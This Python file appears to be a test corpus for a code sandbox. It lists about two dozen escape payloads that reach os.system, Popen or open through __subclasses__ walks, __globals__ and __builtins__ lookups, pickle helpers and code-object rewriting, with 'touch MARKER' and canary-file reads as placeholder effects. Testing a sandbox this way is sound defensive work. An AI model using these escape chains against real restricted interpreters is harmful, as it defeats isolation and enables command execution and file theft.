"""Walks over the objects of the interpreter, from a harmless value to a function that does harm."""

from sandbox.attack import FILE, gadget

WALKS = (
    gadget(
        "subclasses-to-system",
        "subclasses walk",
        r"""
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "_wrap_close":
        print(kind.__init__.__globals__["system"]("touch " + MARKER))
""",
    ),
    gadget(
        "subclasses-to-file-loader",
        "subclasses walk",
        r"""
for kind in "".__class__.__mro__[-1].__subclasses__():
    for deeper in [kind] if kind is type else kind.__subclasses__():
        for deepest in [deeper] + ([] if deeper is type else deeper.__subclasses__()):
            if deepest.__name__ == "SourceFileLoader":
                print("LEAK:", deepest("x", CANARY).get_data(CANARY))
""",
        ends=FILE,
    ),
    gadget(
        "subclasses-by-type",
        "subclasses walk",
        r"""
found = [kind for kind in type.__subclasses__(object) if "wrap_close" in str(kind)]
found[0].__init__.__globals__["system"]("touch " + MARKER)
""",
    ),
    gadget(
        "subclasses-any-globals-with-sys",
        "subclasses walk",
        r"""
def walk(kind, seen):
    for below in kind.__subclasses__() if kind is not type else []:
        if below not in seen:
            seen.add(below)
            yield below
            yield from walk(below, seen)

for kind in walk(object, set()):
    space = {}
    try:
        space = kind.__init__.__globals__
    except AttributeError:
        pass
    if "sys" in space:
        space["sys"].modules["posix"].system("touch " + MARKER)
        break
""",
    ),
    gadget(
        "class-hierarchy-of-an-exception",
        "subclasses walk",
        r"""
kinds = ValueError("x").__class__.__mro__[-1].__subclasses__()
by_name = {kind.__name__: kind for kind in kinds}
if "Popen" in by_name:
    by_name["Popen"](["touch", MARKER]).wait()
else:
    by_name["_wrap_close"].__init__.__globals__["posix_spawn"]("/usr/bin/touch", ["touch", MARKER], {})
""",
    ),
    gadget(
        "metatype-register-builtins",
        "subclasses walk",
        r"""
kind = ().__class__.__class__
meta = kind.__subclasses__(kind)[0]
space = meta.register.__builtins__
print("LEAK:", space["open"](CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "base-by-getattribute",
        "subclasses walk",
        r"""
get = object.__getattribute__
base = get(get((), "__cla" + "ss__"), "__subclasshook__").__self__.__mro__[1]
for kind in type.__getattribute__(base, "__subclasses__")():
    if kind.__name__ == "_wrap_close":
        kind.__init__.__globals__["system"]("touch " + MARKER)
""",
    ),
    gadget(
        "type-dict-lookup",
        "subclasses walk",
        r"""
subclasses = type.__dict__["__subclasses__"]
for kind in subclasses(object):
    if kind.__name__ == "_wrap_close":
        globs = type(lambda: 0).__dict__["__globals__"].__get__(kind.__init__)
        globs["system"]("touch " + MARKER)
""",
    ),
    gadget(
        "lambda-globals",
        "__globals__",
        r"""
space = (lambda: 0).__globals__["__builtins__"]
space = space if isinstance(space, dict) else space.__dict__
if "open" not in space:
    space = len.__self__.__dict__
print("LEAK:", space["open"](CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "function-builtins",
        "__globals__",
        r"""
def f():
    pass
space = f.__builtins__
find = space.get("__import__")
try:
    find("os").system("touch " + MARKER)
except (ImportError, TypeError):
    len.__self__.__import__("os").system("touch " + MARKER)
""",
    ),
    gadget(
        "method-globals",
        "__globals__",
        r"""
class A:
    def f(self):
        return 1
space = A().f.__func__.__globals__
space["__builtins__"] = len.__self__
exec_ = space["__builtins__"].exec
exec_("import os; os.system('touch ' + MARKER)", space)
""",
    ),
    gadget(
        "builtin-self",
        "__globals__",
        r"""
print("LEAK:", len.__self__.open(CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "print-self-import",
        "__globals__",
        r"""
print.__self__.__import__("posix").system("touch " + MARKER)
""",
    ),
    gadget(
        "wraps-globals",
        "__globals__",
        r"""
import functools
space = functools.wraps.__globals__["__builtins__"]
print("LEAK:", space["open"](CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "json-dumps-globals",
        "__globals__",
        r"""
import json
space = json.dumps.__globals__["__builtins__"]
space["__import__"]("os").system("touch " + MARKER)
""",
    ),
    gadget(
        "random-method-globals",
        "__globals__",
        r"""
import random
random.choice.__func__.__globals__["_os"].system("touch " + MARKER)
""",
    ),
    gadget(
        "namedtuple-globals-modules",
        "__globals__",
        r"""
from collections import namedtuple
namedtuple.__globals__["_sys"].modules["posix"].system("touch " + MARKER)
""",
    ),
    gadget(
        "template-method-globals",
        "__globals__",
        r"""
import string
space = string.Template.substitute.__globals__
space["_re"].compile.__globals__["enum"].sys.modules["os"].system("touch " + MARKER)
""",
    ),
    gadget(
        "closure-cell",
        "__globals__",
        r"""
import functools
@functools.lru_cache
def f():
    return 1
inner = functools.singledispatch(f).register
cells = inner.__closure__
space = inner.__globals__["__builtins__"]
print(len(cells), "LEAK:" + space["open"](CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "reduce-ex-to-copyreg",
        "pickle and copyreg",
        r"""
class A:
    pass
make = A().__reduce_ex__(2)[0]
make.__globals__["__builtins__"]["__import__"]("os").system("touch " + MARKER)
""",
    ),
    gadget(
        "code-replace-names",
        "__code__.replace",
        r"""
def f():
    return harmless(CANARY)
harmless = len
f.__code__ = f.__code__.replace(co_names=("opener", "CANARY"))
opener = len.__self__.open
print("LEAK:", f().read())
""",
        ends=FILE,
    ),
    gadget(
        "code-replace-consts",
        "__code__.replace",
        r"""
def f():
    return "x"
code = f.__code__.replace(co_consts=(None, CANARY))
function = f.__class__(code, {"__builtins__": {}})
print("LEAK:", len.__self__.open(function()).read())
""",
        ends=FILE,
    ),
    gadget(
        "code-and-function-from-compile",
        "__code__.replace",
        r"""
space = len.__self__
code = space.compile("import os; os.system('touch ' + path)", "x", "exec")
(lambda: 0).__class__(code, {"path": MARKER, "__builtins__": space})()
""",
    ),
    gadget(
        "defaults-and-kwdefaults",
        "__globals__",
        r"""
import json
json.dumps.__kwdefaults__["default"] = lambda x: 1
json.dumps.__defaults__
print("LEAK:", json.loads.__globals__["codecs"].open(CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "super-thisclass",
        "subclasses walk",
        r"""
class A:
    def f(self):
        return super().__thisclass__.__mro__[1].__subclasses__()
for kind in A().f():
    if kind.__name__ == "BuiltinImporter":
        kind.load_module("posix").system("touch " + MARKER)
""",
    ),
    gadget(
        "annotations-of-a-module",
        "__globals__",
        r"""
import decimal
decimal.Decimal.__module__
decimal.getcontext().__class__.__reduce__.__objclass__.__mro__[1].__subclasses__()
for kind in object.__subclasses__():
    if kind.__name__ == "_wrap_close":
        print("LEAK:", kind.__init__.__globals__["open"](CANARY, 0))
""",
        ends=FILE,
    ),
)
